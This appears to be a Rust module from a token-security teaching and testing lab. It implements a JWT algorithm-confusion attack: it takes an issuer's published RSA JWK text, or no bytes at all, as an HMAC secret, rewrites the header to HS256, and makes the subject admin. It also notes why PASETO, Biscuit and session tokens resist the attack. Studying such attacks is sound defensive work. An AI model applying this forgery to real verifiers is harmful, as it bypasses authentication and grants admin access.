//! A published JWK as a secret: the key set names no algorithm, so the token does.
//!
//! The flawed assumption: what a key set leaves open, the token may fill in.
//! `alg` of a JWK is optional (RFC 7517 §4.4); a verifier that falls back to the
//! header's `alg` where the key has none turns an RSA key into the secret of an
//! HMAC, by its text or by no bytes at all. Bitten: npm hono before 4.11.4
//! (CVE-2026-22818), C LibJWT (CVE-2026-44699), PyPI PyJWT before 2.13.0
//! (CVE-2026-48526) and 2.13.0 (CVE-2026-102273).
//!
//! PASETO keeps key rings typed by demand of its specification, and no key of
//! another type has the 32 bytes of a local key; the first 32 of the text are
//! tried. So it is with a Biscuit's root key and with the id of a session.

use serde_json::Value;
use tokenlab_harness::exchange::PublicKey;

use rsa::pkcs8::DecodePublicKey;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::public_key;
use crate::scheme::{JwsAlgorithm, Scheme};
use crate::stand_in::under_known_bytes;
use crate::weakness::Weakness;

pub(super) struct AlgConfusionJwk;

static PROFILE: AttackProfile = AttackProfile {
    id: "alg-confusion-jwk",
    title: "Published JWK used as an HMAC secret",
    assumption: "Where a key names no algorithm, the token may name one.",
    class: AttackClass::Algorithm,
    given: &[],
    isolated: false,
    breaks: &[Weakness::JwkAsSecret],
    references: &[
        (
            "RFC 8725 §3.1",
            "Each key is for exactly one algorithm, and that is checked.",
        ),
        ("RFC 7517 §4.4", "alg of a JWK is optional; its kty is not."),
        (
            "CVE-2026-22818",
            "npm hono before 4.11.4: a JWK without alg takes the header's.",
        ),
        (
            "CVE-2026-44699",
            "C LibJWT 3.0.0 to 3.3.2: an RSA JWK without alg serves as an HMAC key of no bytes; fixed in 3.3.3.",
        ),
        ("CVE-2026-48526", "PyPI PyJWT before 2.13.0."),
        ("CVE-2026-102273", "PyPI PyJWT 2.13.0, fixed in 2.14.0."),
        (
            "PASETO, API-UX",
            "Keys of a key ring must match the version and purpose of the token.",
        ),
    ],
    lesson: include_str!("../../lessons/alg-confusion-jwk.md"),
};

impl Attack for AlgConfusionJwk {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let (why, because) = match (view.scheme(), view.public_key()) {
            (scheme @ Scheme::Jwt(_), Some(public)) => {
                return tags(view, &entry(public, scheme)?, notes);
            }
            (Scheme::Jwe(..), Some(_)) => return tags(view, &issuers_entry(view)?, notes),
            (Scheme::Jwt(_) | Scheme::Jwe(..), None) => (
                "issuer and verifier share a secret, which no key set publishes",
                "this key is in no key set, so the entry of the issuer's RSA key takes its place",
            ),
            (Scheme::Paseto(..), _) => (
                "a PASETO names no algorithm that a key could take over from it",
                "the first 32 bytes of the entry take the place of a local key",
            ),
            (Scheme::Biscuit, _) => (
                "the algorithm of a root key is chosen with the key, and no token can ask for an HMAC",
                "the first 32 bytes of the entry take the place of a private root key",
            ),
            (Scheme::Session(_), _) => (
                "a session has no key that could take over an algorithm",
                "the first 32 bytes of the entry take the place of an id",
            ),
        };
        let entry = issuers_entry(view)?;
        let token = under_known_bytes(view, entry.as_bytes())?;
        let variant = "jwk-text";
        notes.variant_step(
            variant,
            "Takes the text of the issuer's RSA key in its key set for a secret.",
            entry,
        );
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: vec![Forgery::analogue(variant, token, because)],
        })
    }
}

/// HMACs under the text of the entry, and under nothing.
fn tags(view: &AttackerView<'_>, entry: &str, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let header = view.header_with_alg(Hs::S256.name());
    notes.step(
        "Rewrites the claims, in which the subject becomes admin, and writes HS256 into the header.",
        Value::Object(header.clone()).to_string(),
    );
    let mut forgeries = Vec::new();
    for (variant, action, secret) in [
        (
            "jwk-text",
            "Computes the HMAC with the entry of the issuer's key set as the secret. It names no algorithm.",
            entry,
        ),
        (
            "no-bytes",
            "Computes the HMAC with no bytes as the secret: of an RSA key, the member k has none.",
            "",
        ),
    ] {
        notes.variant_step(variant, action, secret);
        let signature = Signature::Tag(Hs::S256, secret.as_bytes().to_vec());
        forgeries.push(Forgery::new(
            variant,
            mint::jws(&header, view.wanted(), &signature)?,
        ));
    }
    Ok(forgeries)
}

fn issuers_entry(view: &AttackerView<'_>) -> Result<String, CannotForge> {
    let key = rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map_err(|error| CannotForge::Failed(error.to_string()))?;
    entry(&PublicKey::Rsa(key), Scheme::Jwt(JwsAlgorithm::Rs256))
}

fn entry(public: &PublicKey, scheme: Scheme) -> Result<String, CannotForge> {
    public_key::jwks_entry(public, scheme)
        .ok_or_else(|| CannotForge::Failed(format!("{} has no JWK for {scheme}", public.kind())))
}
